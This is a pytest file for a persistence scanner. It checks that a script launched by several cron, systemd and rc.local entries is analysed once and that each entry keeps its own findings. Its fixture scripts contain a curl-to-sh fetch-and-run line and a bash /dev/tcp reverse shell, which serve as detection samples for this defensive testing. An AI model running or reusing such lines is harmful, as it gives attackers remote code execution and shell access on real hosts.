"""Reading the scripts start-up entries run: a script started by several entries is read and
judged once, and each entry still gets its own matches."""

from __future__ import annotations

from pathlib import Path

import pytest

from safecheck.core.entries import Entry
from safecheck.scan import script_bodies
from safecheck.scan.analysis.scripts import IsTool, ScriptMatch, analyse_script
from safecheck.scan.collectors.host import Host

SCRIPT = "#!/bin/sh\ncurl -s http://example.invalid/x | sh\n. /opt/inner.sh\n"
INNER = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"


def _root(tmp_path: Path) -> Host:
    (tmp_path / "opt").mkdir()
    (tmp_path / "opt/run.sh").write_text(SCRIPT, encoding="utf-8")
    (tmp_path / "opt/inner.sh").write_text(INNER, encoding="utf-8")
    return Host(platform="linux", root=tmp_path)


def _entries() -> list[Entry]:
    return [
        Entry("linux.cron", "cron-job", "/etc/crontab", "job", program="/opt/run.sh", line=3),
        Entry(
            "linux.systemd",
            "systemd-unit",
            "/etc/systemd/system/a.service",
            "a.service",
            program="/opt/run.sh",
        ),
        Entry("linux.boot", "rc-local", "/opt/run.sh", "rc.local"),
    ]


def test_a_script_started_by_several_entries_is_judged_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    host = _root(tmp_path)
    judged: list[str] = []
    original = analyse_script

    def counting(text: str, is_tool: IsTool | None = None) -> list[ScriptMatch]:
        judged.append(text)
        return original(text, is_tool)

    monkeypatch.setattr(script_bodies, "analyse_script", counting)
    matches, reading = script_bodies.script_entries(host, _entries())
    assert sorted(judged) == sorted([SCRIPT, INNER])  # each text once
    # every entry that starts run.sh gets run.sh's matches, and inner.sh's through run.sh
    started = {(m.location, m.detail("started-by")) for m in matches}
    assert started == {
        ("/opt/run.sh", "/etc/crontab"),
        ("/opt/run.sh", "/etc/systemd/system/a.service"),
        ("/opt/run.sh", "/opt/run.sh"),  # rc.local-like: the entry is the script itself
        ("/opt/inner.sh", "/opt/run.sh"),
    }
    assert reading.read == 2
    assert reading.followed == 1


def test_each_entry_keeps_its_own_facts(tmp_path: Path) -> None:
    host = _root(tmp_path)
    matches, _ = script_bodies.script_entries(host, _entries())
    by_start: dict[tuple[str, str | None], list[Entry]] = {}
    for match in matches:
        by_start.setdefault((match.location, match.detail("started-by")), []).append(match)
    cron = by_start[("/opt/run.sh", "/etc/crontab")]
    unit = by_start[("/opt/run.sh", "/etc/systemd/system/a.service")]
    assert [(m.line, m.command) for m in cron] == [(m.line, m.command) for m in unit]
    assert all(m.collector == "linux.cron" for m in cron)
    assert all(m.collector == "linux.systemd" for m in unit)
